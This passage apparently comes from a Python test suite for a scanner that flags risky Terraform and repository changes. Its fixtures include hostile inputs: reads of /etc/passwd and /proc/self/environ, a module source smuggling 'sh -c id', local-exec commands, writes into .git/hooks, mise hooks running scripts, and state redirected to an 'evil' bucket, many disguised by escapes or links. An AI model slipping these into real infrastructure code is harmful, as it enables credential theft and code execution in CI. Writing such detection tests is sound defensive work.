        {
            "+x.tf": 'data "template_file" "x" {\n  template = base64decode("JHtmaWxlKCIvZXRjL3gifQ==")\n}\n',
            "+JHtmaWxlKCIvZXRjL3gifQ==": "harmless\n",
        },
    ),
    "template_file_list": main("file-path", 'data "template_file_list" "x" {\n  source_dir = "/root"\n}\n'),
    "kustomization from elsewhere": main(
        "data-source",
        'data "kubectl_kustomize_documents" "x" {\n  target = "https://example.com/x?ref=main"\n}\n'
        + required('{ source = "gavinbunney/kubectl" }', "kubectl"),
    ),
    "kubectl_path_documents as templates": main(
        "data-source",
        'data "kubectl_path_documents" "x" {\n  pattern = "${path.module}/x.yaml"\n}\n'
        + required('{ source = "gavinbunney/kubectl" }', "kubectl"),
    ),
    "kubectl_path_documents that may be templates": main(
        "data-source",
        'data "kubectl_path_documents" "x" {\n  pattern = "x.yaml"\n  disable_template = var.d\n}\n'
        + required('{ source = "gavinbunney/kubectl" }', "kubectl"),
    ),
    "kubectl_path_documents from elsewhere": main(
        "file-path",
        'data "kubectl_path_documents" "x" {\n  pattern = "/root/.kube/*"\n  disable_template = true\n}\n'
        + required('{ source = "gavinbunney/kubectl" }', "kubectl"),
    ),
    "local_command": main("data-source", 'data "local_command" "x" {\n  command = "id"\n}\n'),
    "local_command as an action": main("data-source", 'action "local_command" "x" {\n  config {}\n}\n'),
    "local_file that writes elsewhere": main(
        "file-path", 'resource "local_file" "x" {\n  filename = "/root/.terraformrc"\n  content = ""\n}\n'
    ),
    "archive of a folder elsewhere": main(
        "file-path",
        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/root"\n  output_path = "x.zip"\n}\n',
    ),
    "archive of the whole repository": main(
        "file-path",
        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "../../../.."\n  output_path = "x.zip"\n}\n',
    ),
    "archive that is written elsewhere": main(
        "file-path",
        'data "archive_file" "x" {\n  type = "zip"\n  source_file = "main.tf"\n'
        '  output_path = "/usr/local/bin/x"\n}\n',
    ),
    "bucket object from a file of the machine": main(
        "file-path",
        'resource "google_storage_bucket_object" "x" {\n  bucket = "b"\n  name = "n"\n'
        '  source = "/proc/self/environ"\n}\n',
    ),
    "state as an object": main(
        "remote-state",
        'data "google_storage_bucket_object_content" "x" {\n  bucket = "acme-dev"\n'
        '  name = "dev/state/net/default.tfstate"\n}\n',
    ),
    "object of some bucket": main(
        "remote-state",
        'data "google_storage_bucket_object_content" "x" {\n  bucket = join("", ["acme", "-dev"])\n  name = "n"\n}\n',
    ),
    "request by TLS": main(
        "provider-argument", 'data "tls_certificate" "x" {\n  url = "https://x.example.com"\n}\n'
    ),
    "query by DNS": main("data-source", 'data "dns_a_record_set" "x" {\n  host = "x.example.com"\n}\n'),
    "token of the account": main("data-source", 'data "google_client_config" "x" {\n}\n'),
    "token as an ephemeral resource": main(
        "data-source", 'ephemeral "google_service_account_access_token" "x" {\n}\n'
    ),
    "endpoint": provider("google", 'storage_custom_endpoint = "http://example.com"'),
    "credentials": provider("google", 'credentials = "{}"'),
    "credentials that run a program": provider("google-beta", "external_credentials {\n  }"),
    "endpoint in an override": main(
        "provider-argument",
        'provider "google" {\n}\n',
        x_override__tf='provider "google" {\n  universe_domain = "example.com"\n}\n',
    ),
    "provisioner in removed": main(
        "provisioner",
        'removed {\n  from = google_x.x\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
    ),
    "connection": main(
        "provisioner", 'resource "terraform_data" "x" {\n  connection {\n    host = "x"\n  }\n}\n'
    ),
    # Modules
    "module from git": main("module-source", 'module "m" {\n  source = "git::https://example.com/m"\n}\n'),
    "module from a registry": main("module-source", 'module "m" {\n  source = "evil/m/google"\n}\n'),
    "module from a bucket": main("module-source", 'module "m" {\n  source = "gcs::https://x/y"\n}\n'),
    "module by ext": main("module-source", 'module "m" {\n  source = "git::ext::sh -c id"\n}\n'),
    "module by an absolute path": main("module-source", 'module "m" {\n  source = "/tmp/m"\n}\n'),
    "module outside": main("module-source", 'module "m" {\n  source = "../../../../../m"\n}\n'),
    "module by a local": main(
        "module-source", 'locals {\n  s = "git::x"\n}\nmodule "m" {\n  source = local.s\n}\n'
    ),
    "module with another separator": main("module-source", 'module "m" {\n  source = ".\\\\m"\n}\n'),
    "module in a submodule": Change("module-source", {"+x.tf": CALL}, submodules={MODULE: "1" * 40}),
    "module behind a link outside": Change("module-source", {"+x.tf": CALL}, links={MODULE: "/etc"}),
    # Backends and states
    "backend http": main("backend", "# x\n", versions__tf='terraform {\n  backend "http" {\n  }\n}\n'),
    "cloud": main("backend", "# x\n", versions__tf="terraform {\n  cloud {\n  }\n}\n"),
    "cloud in JSON": Change("backend", {"+versions.tf.json": '{"terraform":{"cloud":{"organization":"x"}}}'}),
    "no backend": Change("backend", {"+versions.tf": None, "+x.tf": "# x\n"}),
    "bucket": main(
        "backend", "# x\n", versions__tf='terraform {\n  backend "gcs" {\n    bucket = "evil"\n  }\n}\n'
    ),
    "endpoint of the backend": main(
        "provider-argument",
        "# x\n",
        versions__tf='terraform {\n  backend "gcs" {\n    storage_custom_endpoint = "http://x"\n  }\n}\n',
    ),
    "account of the backend": main(
        "provider-argument",
        "# x\n",
        versions__tf='terraform {\n  backend "gcs" {\n    impersonate_service_account = "x"\n  }\n}\n',
    ),
    "local state elsewhere": main(
        "file-path", "# x\n", versions__tf='terraform {\n  backend "local" {\n    path = "/x"\n  }\n}\n'
    ),
    "remote state of another bucket": main("remote-state", state('{ bucket = "evil" }')),
    "remote state by merge": main(
        "remote-state", state('merge({ bucket = "acme-dev" }, { bucket = "evil" })')
    ),
    "remote state by a key": main("remote-state", state('{ (local.k) = "evil" }')),
    "remote state of another kind": main("remote-state", state('{ address = "http://x" }', '"http"')),
    "remote state of no kind": main("remote-state", state("{}", "local.b")),
    "remote state by each": main(
        "remote-state",
        'data "terraform_remote_state" "x" {\n  for_each = toset(["evil"])\n  backend = "gcs"\n'
        "  config = { bucket = each.value }\n}\n",
    ),
    "remote state of the machine": main("remote-state", state('{ path = "/x" }', '"local"')),
    "remote state in a check": main("remote-state", 'check "c" {\n' + state('{ bucket = "evil" }') + "}\n"),
    "remote state in a module": Change(
        "remote-state", {"+x.tf": CALL, f"{MODULE}/main.tf": state('{ bucket = "evil" }')}
    ),
    "remote state by an argument": Change(
        "remote-state",
        {
            "+x.tf": CALL.replace("}", '  b = "evil"\n}'),
            f"{MODULE}/main.tf": 'variable "b" {}\n' + state("{ bucket = var.b }"),
        },
    ),
    "states elsewhere by infra.yaml": Change(
        "backend", {"infra.yaml": "backend: {gcs: {bucket: evil}}\nenvironments: {dev: {}, prod: {}}\n"}
    ),
    # Beside the code
    "terraform.d": Change("cli-config", {"+terraform.d/plugins/x": "#!/bin/sh\n"}),
    "terraform.d behind a link": Change(
        "cli-config", {"shared/x": ""}, links={f"{STACK}/terraform.d": "../../../../shared"}
    ),
    "terraform.d in a submodule": Change(
        "cli-config", {"+x.tf": ""}, submodules={f"{STACK}/terraform.d": "1" * 40}
    ),
    "CLI configuration": Change("cli-config", {".terraformrc": "provider_installation {}\n"}),
    "CLI configuration of OpenTofu": Change("cli-config", {"+.tofurc": ""}),
    "modules that are there already": Change("cli-config", {"+.terraform/modules/modules.json": "{}"}),
    "data of infra": Change("cli-config", {".infra/data/x": ""}),
    "filter": Change("git-conversion", {".gitattributes": "*.tf filter=x\n"}),
    "encoding": Change("git-conversion", {".gitattributes": "*.tf working-tree-encoding=UTF-16\n"}),
    "ident": Change("git-conversion", {"infra/.gitattributes": "* ident\n"}),
    "filter by a macro": Change("git-conversion", {".gitattributes": "[attr]x filter=y\n*.tf x\n"}),
    "pointer in place of code": Change("unreadable", {"+x.tf": POINTER}),
    "pointer in place of variables": Change("unreadable", {"+x.tf": TFVARS, "+x.auto.tfvars": POINTER}),
    "submodule": Change(
        "submodule", {".gitmodules": '[submodule "m"]\n\tpath = m\n\turl = https://example.com/m\n'}
    ),
    "server of LFS": Change("lfs-config", {".lfsconfig": "[lfs]\n\turl = https://example.com\n"}),
    "link out": Change("link", {"+x.tf": ""}, links={f"{STACK}/y.tf": "/etc/passwd"}),
    "link to git": Change("link", {"+x.tf": ""}, links={f"{STACK}/y.tf": "../../../../.git/x"}),
    "ring of links": Change("link", {"+x.tf": ""}, links={f"{STACK}/y": "z", f"{STACK}/z": "y"}),
    "link of a folder out": Change("link", {"+x.tf": ""}, links={f"{STACK}/sub": "../../../../.."}),
    "link up from behind a link": Change(
        "link",
        {"+x.tf": ""},
        links={"a/b/c/d/l": "../../../..", f"{STACK}/y": "../../../../a/b/c/d/l/../../../x"},
    ),
    "Apigee proxy from elsewhere": main(
        "file-path", 'resource "google_apigee_api" "x" {\n  config_bundle = "/home/runner/key.json"\n}\n'
    ),
    "Apigee shared flow from elsewhere": main(
        "file-path",
        'resource "google_apigee_sharedflow" "x" {\n  config_bundle = "${path.module}/../../../../../x"\n}\n',
    ),
    "Apigee keystore from elsewhere": main(
        "file-path",
        'resource "google_apigee_keystores_aliases_pkcs12" "x" {\n  file = "/home/runner/key"\n}\n',
    ),
    "code behind a link": Change(
        "data-source",
        {"docs/x.txt": 'data "http" "x" {}\n'},
        links={f"{STACK}/y.tf": "../../../../docs/x.txt"},
    ),
    "stack behind a link": Change(
        "data-source",
        {"lib/s/main.tf": 'terraform {\n  backend "gcs" {}\n}\ndata "http" "x" {}\n'},
        links={"infra/envs/dev/s": "../../../lib/s"},
    ),
    "name that cannot be seen": Change("name", {"+a\u202e.tf": "# x\n"}),
    "name of two lines": Change("name", {"+a\nb.tf": "# x\n"}),
    "name in another case": Change("name", {"+Versions.tf": "# x\n"}),
    "folder in another case": Change(
        "name", {"+x.tf": CALL, "infra/Modules/m/main.tf": "", f"{MODULE}/main.tf": ""}
    ),
    "lock file of a provider that is not listed": Change(
        "lock-file",
        {"+.terraform.lock.hcl": 'provider "registry.terraform.io/evil/p" {\n  version = "1.0.0"\n}\n'},
    ),
    "lock file of another registry": Change(
        "lock-file",
        {"+.terraform.lock.hcl": 'provider "example.com/hashicorp/google" {\n  version = "1.0.0"\n}\n'},
    ),
    "state store of a provider": main(
        "backend",
        'terraform {\n  state_store "gcs" {\n    provider "gcs" {}\n    bucket = "acme-dev"\n  }\n}\n',
    ),
    "state store in JSON": json(
        "backend", '{"terraform": {"state_store": {"gcs": {"bucket": "acme-dev", "provider": {"gcs": {}}}}}}'
    ),
    "provider of a state store": main(
        "provider-argument",
        'terraform {\n  state_store "x_s" {\n    provider "x" {\n      config_path = "k"\n    }\n  }\n}\n',
    ),
    "query of a provider that is not listed": Change(
        "provider", {"+x.tf": "locals {}\n", "+x.tfquery.hcl": 'provider "evil" {}\n'}
    ),
    "list block of a provider that is not listed": Change(
        "provider",
        {"+x.tf": "locals {}\n", "+x.tfquery.hcl": 'list "evil_thing" "x" {\n  provider = evil\n}\n'},
    ),
    "query with credentials": Change(
        "provider-argument",
        {"+x.tf": "locals {}\n", "+x.tfquery.hcl": 'provider "google" {\n  credentials = "k"\n}\n'},
    ),
    "query in JSON": Change(
        "provider-argument",
        {"+x.tf": "locals {}\n", "+x.tfquery.json": '{"provider": {"google": {"credentials": "k"}}}'},
    ),
    "file read by a query": Change(
        "file-path", {"+x.tf": "locals {}\n", "+x.tfquery.hcl": 'locals {\n  a = file("/etc/passwd")\n}\n'}
    ),
    "names of objects of a state bucket": main(
        "remote-state", 'data "google_storage_bucket_objects" "x" {\n  bucket = "acme-dev"\n}\n'
    ),
    "media link of a state": main(
        "remote-state", 'data "google_storage_bucket_object" "x" {\n  bucket = "acme-dev"\n  name = "n"\n}\n'
    ),
    "ephemeral object of a state bucket": main(
        "remote-state",
        'ephemeral "google_storage_bucket_object_content" "x" {\n  bucket = "acme-dev"\n  name = "n"\n}\n',
    ),
    "signed URL": main(
        "data-source",
        'data "google_storage_object_signed_url" "x" {\n  bucket = "b"\n  path = "p"\n}\n',
    ),
    "object of a computed bucket of S3": main(
        "remote-state", 'data "aws_s3_object" "x" {\n  bucket = join("", ["a", "b"])\n  key = "k"\n}\n'
    ),
    "old data source of objects of S3": main(
        "remote-state", 'data "aws_s3_bucket_object" "x" {\n  bucket = join("", ["a"])\n  key = "k"\n}\n'
    ),
    "function run by a plan": main(
        "data-source", 'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n'
    ),
    "function run by an action": main(
        "data-source", 'action "aws_lambda_invoke" "x" {\n  config {\n  }\n}\n'
    ),
    "blob of Azure": main("data-source", 'data "azurerm_storage_blob" "x" {\n  name = "n"\n}\n'),
    "token of an Azure storage account": main(
        "data-source", 'data "azurerm_storage_account_blob_container_sas" "x" {\n  https_only = true\n}\n'
    ),
    "outputs of a workspace of HCP Terraform": main(
        "data-source", 'data "tfe_outputs" "x" {\n  organization = "o"\n  workspace = "w"\n}\n'
    ),
    # Siblings of the kept-back kinds
    "submodule in the old syntax": Change(
        "submodule", {".gitmodules": "[submodule.m] url = https://example.com/m\n\tpath = m\n"}
    ),
    "second URL of a submodule": Change(
        "submodule",
        {".gitmodules": '[submodule "m"]\n\tpath = m\n\turl = https://ok\n\turl = https://example.com/m\n'},
        trunk={".gitmodules": '[submodule "m"]\n\tpath = m\n\turl = https://ok\n'},
    ),
    "URL of a submodule in capitals": Change(
        "submodule", {".gitmodules": '[SubModule "m"] URL="https://example.com/m"\n'}
    ),
    "encoding that a bracket seems to unset": Change(
        "git-conversion",
        {".gitattributes": "*.tf working-tree-encoding=UTF-16\n*.[z]f -working-tree-encoding\n"},
    ),
    "encoding that another line end seems to unset": Change(
        "git-conversion", {".gitattributes": "*.tf filter=x\n#\u2028*.tf -filter\n"}
    ),
    "filter by a macro that comes later": Change(
        "git-conversion", {".gitattributes": "*.tf x\n[attr]x filter=y\n"}
    ),
    "filter by an octal escape": Change("git-conversion", {".gitattributes": '"*.t\\146" filter=x\n'}),
    "version that leads to a folder": Change("cli-config", {"+.terraform-version": "../../../work/evil\n"}),
    "version of OpenTofu that leads to a folder": Change("cli-config", {".opentofu-version": "../../evil\n"}),
    "version of asdf that leads to a folder": Change(
        "cli-config", {".tool-versions": "terraform ../../../x\n"}
    ),
    "script of mise": Change("cli-config", {"mise.toml": '[env]\n_.source = "./evil.sh"\n'}),
    "hook of mise": Change("cli-config", {"+mise.local.toml": '[hooks]\nenter = "sh evil"\n'}),
    "plugin of mise": Change(
        "cli-config", {".config/mise.toml": '[plugins]\nterraform = "https://example.com/x"\n'}
    ),
    "path of mise by an escape": Change(
        "cli-config", {"mise.toml": '[tools]\nterraform = "pa\\u0074h:./evil"\n'}
    ),
    "backend of mise": Change("cli-config", {"mise.toml": '[tools]\n"ubi:evil/terraform" = "1"\n'}),
    "command after an installation of mise": Change(
        "cli-config", {".mise/config.toml": '[tools]\nterraform = {version = "1", postinstall = "sh evil"}\n'}
    ),
    "plugin of proto": Change("cli-config", {".prototools": '[plugins]\nterraform = "file://./evil.toml"\n'}),
    "settings of mise that do not parse": Change("cli-config", {"mise.toml": "[tools\n"}),
    "variable file of Git": Change(
        "file-path",
        {
            "infra.yaml": "backend: {gcs: {bucket: 'acme-{environment}'}}\n"
            "environments: {dev: {var_files: [.git/config]}, prod: {}}\n"
        },
    ),
    "bucket for a new environment": Change(
        "backend",
        {
            "infra.yaml": "backend: {gcs: {bucket: 'acme-{environment}'}}\nenvironments: {dev: {}, prod: {}, evil: {}}\n",
            "infra/envs/evil/net/main.tf": 'terraform {\n  backend "gcs" {}\n}\n',
        },
    ),
    "bucket of one stack in infra.yaml": Change(
        "backend",
        {
            "infra.yaml": "backend: {gcs: {bucket: 'acme-{environment}'}}\nenvironments: {dev: {}, prod: {}}\n"
            "stacks: {dev/net: {backend: {gcs: {bucket: evil}}}}\n"
        },
    ),
    "bucket of one environment in infra.yaml": Change(
        "backend",
        {
            "infra.yaml": "backend: {gcs: {bucket: 'acme-{environment}'}}\n"
            "environments: {dev: {backend: {gcs: {bucket: evil}}}, prod: {}}\n"
        },
    ),
    "bucket that begins like trunk's": main("remote-state", state('{ bucket = "acme-evil" }')),
    "bucket put together": main("remote-state", state('{ bucket = "acme-dev${"-evil"}" }')),
    "placeholder that moves": Change(
        "backend",
        {"infra.yaml": "backend: {gcs: {bucket: '{environment}-acme'}}\nenvironments: {dev: {}, prod: {}}\n"},
    ),
    "key of a remote state by a template": main(
        "remote-state", state('{ bucket = "acme-dev", "buc${""}ket" = "evil" }')
    ),
    "key of a remote state by an escape": main(
        "remote-state", state('{ bucket = "acme-dev", "\\u0062ucket" = "evil" }')
    ),
    "key of a remote state twice": main("remote-state", state('{ bucket = "acme-dev", bucket = "evil" }')),
    "remote state in a conditional": main(
        "remote-state", state('true ? { bucket = "evil" } : { bucket = "acme-dev" }')
    ),
    "remote state by an index": main("remote-state", state('[{ bucket = "evil" }][0]')),
    "remote state by a for": main("remote-state", state('{ for k in ["bucket"] : k => "evil" }')),
    "remote state as an expression in JSON": json(
        "remote-state",
        '{"data": {"terraform_remote_state": {"x": {"backend": "gcs", "config": "${{ bucket = \\"evil\\" }}"}}}}',
    ),
    "path in an object's optional default": main(
        "file-path",
        'variable "o" {\n  type = object({ p = optional(string, "/etc/passwd") })\n  default = {}\n}\n'
        "locals {\n  a = file(var.o.p)\n}\n",
    ),
    "path in an object of a variable file": Change(
        "file-path",
        {
            "+x.tf": 'variable "o" {\n  default = { p = "main.tf" }\n}\nlocals {\n  a = file(var.o.p)\n}\n',
            "+z.auto.tfvars": 'o = { p = "/etc/passwd" }\n',
        },
    ),
    "path in a heredoc": main("file-path", "locals {\n  a = file(<<EOT\n/etc/passwd\nEOT\n  )\n}\n"),
    "path in a heredoc of a variable file": Change(
        "file-path", {"+x.tf": TFVARS, "+terraform.tfvars": "p = <<EOT\n/etc/passwd\nEOT\n"}
    ),
    "variable file behind a link": Change(
        "file-path",
        {"+x.tf": TFVARS, "docs/v": 'p = "/etc/passwd"\n'},
        links={f"{STACK}/a.auto.tfvars": "../../../../docs/v"},
    ),
    "template that reads what it is given": Change(
        "file-path",
        {
            "+x.tf": 'locals {\n  a = templatefile("${path.module}/t", { p = "/etc/passwd" })\n}\n',
            "+t": "${file(p)}",
        },
    ),
    "template that reads with a namespace": Change(
        "file-path",
        {
            "+x.tf": 'locals {\n  a = templatefile("${path.module}/t", {})\n}\n',
            "+t": '${core::file("/etc/passwd")}',
        },
    ),
    "archive that is written to Git's hooks": main(
        "file-path",
        'data "archive_file" "x" {\n  type = "zip"\n  source_file = "main.tf"\n'
        '  output_path = "../../../../.git/hooks/x"\n}\n',
    ),
    "local-exec through a module's module in JSON": Change(
        "provisioner",
        {
            "+x.tf": CALL,
            f"{MODULE}/main.tf": 'module "n" {\n  source = "./n"\n}\n',
            f"{MODULE}/n/x.tf.json": '{"resource": {"terraform_data": {"x": [{"provisioner":'
            ' [{"local-exec": [{"command": "id"}]}]}]}}}',
        },
    ),
    "for_each of a provider with credentials": main(
        "provider-argument",
        'provider "google" {\n  for_each = toset(["a"])\n  alias = "x"\n  credentials = each.key\n}\n',
    ),
    "credentials of a provider under another name in capitals": main(
        "provider-argument",
        required('{ source = "HashiCorp/Google" }', "g") + 'provider "g" {\n  access_token = "x"\n}\n',
    ),
    "exec of helm by a for": main(
        "provider-argument",
        required('{ source = "hashicorp/helm" }', "helm")
        + 'provider "helm" {\n  kubernetes = { for k in ["exec"] : k => { command = "id" } }\n}\n',
    ),
    "exec of helm by a key in a template": main(
        "provider-argument",
        required('{ source = "hashicorp/helm" }', "helm")
        + 'provider "helm" {\n  kubernetes = { "ex${""}ec" = { command = "id" } }\n}\n',
    ),
    "exec of kubernetes in a module": Change(
        "provider-argument",
        {
            "+x.tf": CALL,
            f"{MODULE}/p.tf": KUBERNETES + 'provider "k8s" {\n  exec {\n    command = "id"\n  }\n}\n',
        },
    ),
    "module from an archive": main(
        "module-source", 'module "m" {\n  source = "https://example.com/m.zip"\n}\n'
    ),
    "module from git by ref": main(
        "module-source", 'module "m" {\n  source = "git@example.com:evil/m.git//x?ref=main"\n}\n'
    ),
    "module by a forced getter": main("module-source", 'module "m" {\n  source = "file:///tmp/m"\n}\n'),
    "module from a registry of images": main(
        "module-source", 'module "m" {\n  source = "oci://example.com/m"\n}\n'
    ),
    "module in a heredoc": main("module-source", 'module "m" {\n  source = <<EOT\ngit::x\nEOT\n}\n'),
    "double slash that leads out": main(
        "module-source", 'module "m" {\n  source = "../../../modules//../../../../../x"\n}\n'
    ),
    "data in a hidden folder": Change(
        "data-source",
        {"+x.tf": 'module "m" {\n  source = "./.m"\n}\n', "+.m/main.tf": 'data "http" "x" {}\n'},
    ),
    "data in a module of JSON behind a link": Change(
        "data-source",
        {"+x.tf": CALL, "docs/m.json": '{"data": {"external": {"x": {"program": ["id"]}}}}'},
        links={f"{MODULE}/m.tf.json": "../../../docs/m.json"},
    ),
    "escapes in the types of JSON": json("data-source", '{"d\\u0061ta": {"ht\\u0074p": {"x": {}}}}'),
    "comment that opens in a string": main(
        "data-source", 'locals {\n  a = "/*"\n}\ndata "http" "x" {}\nlocals {\n  b = "*/"\n}\n'
    ),
    "heredoc that a comment seems to open": main("data-source", '# a = <<EOT\ndata "http" "x" {}\n# EOT\n'),
    "line separator in a comment": main("data-source", '# x\u2028\ndata "http" "x" {}\n'),
    "byte order mark in the middle": main("unreadable", '# x\n\ufeffdata "http" "x" {}\n'),
    "null byte": Change("unreadable", {"+x.tf": b'# \x00\ndata "http" "x" {}\n'}),
    "JSON in UTF-16": Change("unreadable", {"+x.tf.json": '{"data": {"http": {"x": {}}}}'.encode("utf-16")}),
    "JSON with a second value": json("unreadable", '{} {"data": {"http": {"x": {}}}}'),
    "provider of the oldest namespace": main("provider", required('{ source = "-/google" }', "g")),
    "provider built in that is none": main("provider", required('{ source = "terraform.io/builtin/evil" }')),
    "provider called terraform": main("provider", required('{ source = "evil/terraform" }', "terraform")),
    "lock file in capitals": Change(
        "lock-file",
        {"+.terraform.lock.hcl": 'provider "Registry.Terraform.IO/Evil/p" {\n  version = "1.0.0"\n}\n'},
    ),
}
